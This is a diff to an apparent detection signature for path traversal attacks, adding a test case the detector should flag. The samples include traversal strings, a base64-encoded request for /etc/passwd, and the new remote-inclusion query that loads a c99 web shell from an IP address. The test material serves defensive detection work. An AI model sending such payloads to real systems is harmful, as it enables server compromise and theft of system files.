@@ -48,6 +48,7 @@ export const pathTraversal: Signature = {
       'http:///?/../../../../srv/',
       `/${'a'.repeat(80)}/../{file}`,
       { query: 'p=eyJwYXRoIjogImZpbGU6Ly8vZXRjL3Bhc3N3ZCJ9' },
+      { query: 'page=http://203.0.113.9/c99.txt' },
     ],
     misses: [
       'the report is in ../reports/2024.pdf, see there',
